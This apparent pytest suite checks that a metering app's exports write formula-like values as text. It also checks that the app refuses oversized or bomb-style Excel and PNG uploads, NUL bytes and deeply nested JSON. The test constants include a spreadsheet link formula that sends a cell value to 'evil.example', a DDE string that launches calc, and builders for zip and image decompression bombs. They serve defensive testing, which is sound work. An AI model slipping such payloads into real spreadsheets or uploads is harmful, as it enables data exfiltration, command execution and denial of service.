"""Hostile input at the edges (issue 20, findings 12-14): formula injection in every export, oversized
Excel imports, decompression-bomb photos, NUL bytes, bad page numbers and deep JSON."""

from __future__ import annotations

import ast
import io
import struct
import time
import zlib
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import event, func, select, text

from meterhub.db import service_session
from meterhub.devices.models import Gateway
from meterhub.errors import ValidationError
from meterhub.spreadsheets import formula_like
from tests.conftest import csrf_token

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"
PLUS = "+1"
TAB = "\t=1+1"


# --- formula injection ---------------------------------------------------------------------------------


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_cells(data: bytes, expected: set[str]) -> list:
    """No formula cell; every formula-like string is a quote-prefixed text cell; ``expected`` all present."""
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if formula_like(c.value)]
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile), [(c.coordinate, c.value) for c in hostile]
    assert expected <= {c.value for c in hostile}
    return cells


def test_write_xlsx_keeps_formula_like_strings_as_text_and_numbers_as_numbers(tmp_path):
    from meterhub.reports.xlsx import write_xlsx

    path = tmp_path / "r.xlsx"
    write_xlsx(path, "r", ["name", "amount", "note"], [(HYPERLINK, Decimal("-30.00"), MINUS), (DDE, -5, TAB),
                                                        (PLUS, 0, "plain")], ["", "money", ""])
    cells = _assert_text_cells(path.read_bytes(), {HYPERLINK, DDE, MINUS, TAB, PLUS})
    numbers = [c for c in cells if c.column_letter == "B" and c.row > 1]
    assert [(c.value, c.data_type) for c in numbers] == [(-30, "n"), (-5, "n"), (0, "n")]


@pytest.fixture()
def hostile_group(app, group):
    """The group's names, numbers and customers renamed to formulas."""
    ops = group.operations  # a batch over a meter of the room, a post-paid bill
    with app.app_context(), service_session() as s:
        s.execute(text("UPDATE properties SET name = :n WHERE id = :i"), {"n": HYPERLINK, "i": group.property_id})
        s.execute(text("UPDATE gateways SET name = :n WHERE id = :i"), {"n": DDE, "i": group.gateway_id})
        s.execute(text("UPDATE rooms SET number = :n WHERE id = :i"), {"n": MINUS, "i": group.room_id})
        s.execute(text("UPDATE prepaid_accounts SET customer_name = :n WHERE group_id = :g"),
                  {"n": PLUS, "g": group.group_id})
        s.execute(text("UPDATE postpaid_bills SET status = 'confirmed' WHERE group_id = :g"), {"g": group.group_id})
        from meterhub.tenants import audit

        audit.record(s, group.group_id, "test.hostile", actor=HYPERLINK, detail={"x": 1})
    return ops


def test_every_console_export_writes_formulas_as_text(app, client, operator, group, hostile_group):
    operator("group_admin")
    _assert_text_cells(client.get("/devices/export.xlsx").data, {DDE})
    _assert_text_cells(client.get(f"/batch/{group.batch_id}/results.xlsx").data, {MINUS})
    _assert_text_cells(client.get("/bills/unpaid.xlsx").data, {PLUS})
    audit_csv = client.get("/audit/export.csv").get_data(as_text=True)
    assert f"'{HYPERLINK}".replace('"', '""') in audit_csv and f",{HYPERLINK}" not in audit_csv


def test_report_export_job_writes_formulas_as_text(app, client, operator, group, hostile_group, tmp_path):
    from tests.alarms.conftest import run_jobs
    from tests.reports.test_finance_and_exports import _money, _today
    from tests.alarms.helpers import make_site

    app.config["EXPORT_DIR"] = str(tmp_path)
    site = make_site(app, group)
    with app.app_context(), service_session() as s:
        s.execute(text("UPDATE properties SET name = :n WHERE group_id = :g"), {"n": HYPERLINK, "g": group.group_id})
    _money(site)
    operator("group_finance")
    day = _today(site).isoformat()
    response = client.post("/reports/sales/export", data={"csrf_token": csrf_token(client, "/reports/"),
                                                          "start": day, "end": day})
    assert response.status_code == 302
    run_jobs(app, "reports")
    state = client.get(response.headers["Location"] + "?format=json").get_json()
    download = client.get(state["download"])
    data = download.get_data()
    download.close()
    cells = _assert_text_cells(data, {HYPERLINK})
    assert any(c.value == -30 and c.data_type == "n" for c in cells)  # a refund stays a negative number


def test_no_spreadsheet_is_written_or_read_outside_the_one_helper():
    """openpyxl and csv writers are used only by meterhub/spreadsheets.py, so every export goes through it."""
    offenders = []
    for path in [*ROOT.glob("meterhub/**/*.py"), *ROOT.glob("webui/**/*.py"), *ROOT.glob("drivers/**/*.py")]:
        if path.name == "spreadsheets.py" and path.parent.name == "meterhub":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                names = [node.module or ""] if isinstance(node, ast.ImportFrom) else [a.name for a in node.names]
                if any(n.split(".")[0] == "openpyxl" for n in names):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} imports openpyxl")
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} uses csv.{node.attr}")
    assert not offenders, "use meterhub.spreadsheets:\n" + "\n".join(offenders)


# --- Excel imports -------------------------------------------------------------------------------------


def _gateway_book(rows: int, declared: bool = False, strip_dimension: bool = False) -> bytes:
    """A Gateways sheet; ``declared``: a normal workbook, whose sheet declares its size (write-only ones do not)."""
    from meterhub.devices.excel import GATEWAY_COLUMNS

    book = Workbook(write_only=not declared)
    sheet = book.create_sheet("Gateways")
    sheet.append(GATEWAY_COLUMNS)
    for i in range(rows):
        sheet.append(["P1", f"GWX-{i}", f"10.{i // 65025 % 256}.{i // 255 % 255}.{i % 255 + 1}", 502,
                      "modbus-rtu-over-tcp", 9600, "N", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if strip_dimension:  # a sheet that hides its size: only streaming can stop it
        import zipfile

        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for item in src.infolist():
                content = src.read(item.filename)
                if item.filename.startswith("xl/worksheets/"):
                    import re

                    content = re.sub(rb"<dimension[^>]*/>", b"", content)
                dst.writestr(item, content)
        data = out.getvalue()
    return data


def _count_gateways(app, group) -> int:
    with app.app_context(), service_session() as s:
        return s.execute(select(func.count()).select_from(Gateway).where(Gateway.group_id == group.group_id)).scalar()


@pytest.mark.parametrize("declared", [True, False])
def test_import_past_the_row_cap_is_refused_while_streaming(app, group, declared, monkeypatch):
    from meterhub.devices import excel, excel_import

    monkeypatch.setattr(excel_import, "MAX_ROWS", 2000)  # the same code path as 20,000, ten times faster
    data = _gateway_book(2001, declared=declared, strip_dimension=not declared)
    with app.app_context(), service_session() as s:
        started = time.perf_counter()
        report = excel.import_workbook(s, group.group_id, data, verify=False)
        elapsed = time.perf_counter() - started
        s.rollback()
    assert not report.ok and "Split the file" in report.errors[0][2] and report.gateways == 0
    assert elapsed < (0.5 if declared else 10), elapsed  # a declared size is refused before any row is read
    assert _count_gateways(app, group) == 2


def test_import_looks_rows_up_in_sets_not_one_query_per_row(app, group):
    from meterhub.devices import excel

    statements = []

    def count(conn, cursor, statement, *args) -> None:  # noqa: ANN001
        statements.append(statement)

    data = _gateway_book(600)
    with app.app_context(), service_session() as s:
        engine = s.get_bind()
        event.listen(engine, "before_cursor_execute", count)
        try:
            started = time.perf_counter()
            report = excel.import_workbook(s, group.group_id, data, verify=False)
            elapsed = time.perf_counter() - started
        finally:
            event.remove(engine, "before_cursor_execute", count)
    assert report.ok and report.gateways == 600, report.errors[:3]
    assert len(statements) < 30, f"{len(statements)} statements for 600 rows"
    assert elapsed < 20
    assert _count_gateways(app, group) == 602


def test_batch_list_past_the_row_cap_is_refused():
    from meterhub.modules.batch.selection import MAX_ROWS, keys_from_excel

    book = Workbook(write_only=True)
    sheet = book.create_sheet("list")
    for i in range(MAX_ROWS + 5):
        sheet.append([f"M{i}"])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(ValidationError, match="Split the file"):
        keys_from_excel(buffer.getvalue())


def test_a_zip_bomb_workbook_is_refused_from_its_directory():
    import zipfile

    from meterhub.spreadsheets import MAX_UNPACKED_BYTES, open_workbook

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * (MAX_UNPACKED_BYTES + 1) + b"</sst>")
    assert len(buffer.getvalue()) < 1_000_000
    with pytest.raises(ValidationError, match="unpacks to"):
        open_workbook(buffer.getvalue())


# --- photos --------------------------------------------------------------------------------------------


def _png(width: int, height: int, rows: bytes | None = None, depth: int = 8, colour: int = 2) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows or b"\0" * 64, 9))
            + chunk(b"IEND", b""))


def test_photo_pixel_count_is_refused_before_decoding(app, client, operator, group):
    operator("electrician")
    token = csrf_token(client, "/onboard")
    bomb = _png(12000, 12000, b"".join(b"\0" + b"\xff" * 1500 for _ in range(12000)), depth=1, colour=0)
    cases = [(bomb, "megapixels"), (_png(60000, 60000), "megapixels"), (_png(100, 100), "not a readable image"),
             (bomb[:300], "megapixels"), (_png(3000, 3000)[:60], "not a readable image"), (b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "not a readable image")]
    assert len(bomb) < 200_000
    for data, message in cases:
        started = time.perf_counter()
        response = client.post("/onboard", data={"csrf_token": token, "gateway_id": group.gateway_id,
                                                 "driver_key": "acrel_dtsd1352", "photo": (io.BytesIO(data), "x.png")},
                               content_type="multipart/form-data")
        assert response.status_code == 422 and message in response.get_data(as_text=True), message
        assert time.perf_counter() - started < 2


# --- malformed query, form and JSON values -------------------------------------------------------------


@pytest.mark.parametrize("url", ["/rooms?page=x", "/rooms?page=99999999999999999999", "/rooms?page=0",
                                 "/audit/?page=-1", "/audit/?action=%00", "/rooms?q=%00", "/prepaid/counter?q=%00",
                                 "/alarms/?kind=a%00b", "/rooms?q%00=1"])
def test_malformed_query_values_answer_400_with_a_message(client, operator, url):
    operator("group_admin")
    response = client.get(url)
    body = response.get_data(as_text=True)
    assert response.status_code == 400, body[:300]
    assert "page number" in body or "NUL byte" in body


def test_nul_in_a_form_value_answers_400_and_stores_nothing(app, client, operator, group):
    operator("group_admin")
    response = client.post(f"/rooms/{group.room_id}", data={"csrf_token": csrf_token(client, "/password"),
                                                            "name": "Shop\x00", "number": "101"})
    assert response.status_code == 400 and "NUL byte" in response.get_data(as_text=True)


@pytest.mark.parametrize("body", ["[" * 100_000, '{"a":' * 40 + "1" + "}" * 40, '{"amount": "1\\u0000"}',
                                  '{"k\\u0000": 1}', '{"amount": "\\ud800"}'])
def test_deep_or_unstorable_json_answers_400(app, client, group, body):
    from tests.api.world import make_token, open_site

    site = open_site(app, group)
    headers = {"Authorization": f"Bearer {make_token(app, group)}", "Content-Type": "application/json",
               "Idempotency-Key": "fuzz-1"}
    response = client.post(f"/api/v1/accounts/{site.account_id}/topups", data=body, headers=headers)
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert response.get_json()["error"]["code"] == "bad_request"


def test_deep_json_from_a_gateway_is_an_invalid_payload_not_a_crash():
    from meterhub.mqtt_ingest.payload import InvalidPayload, parse

    with pytest.raises(InvalidPayload) as caught:
        parse("meterhub/gw-1/readings", b"[" * 100_000)
    assert caught.value.reason == "bad_json"


def test_a_value_the_database_refuses_answers_400_and_stores_nothing(app, client, operator, group):
    operator("group_admin")
    before = _count_gateways(app, group)
    response = client.post("/gateways", data={"csrf_token": csrf_token(client, "/gateways"), "name": "G" * 300,
                                              "property_id": group.property_id, "host": "10.0.0.1", "port": "502",
                                              "framing": "modbus-tcp"})
    assert response.status_code == 400 and "refused by the database" in response.get_data(as_text=True)
    assert _count_gateways(app, group) == before
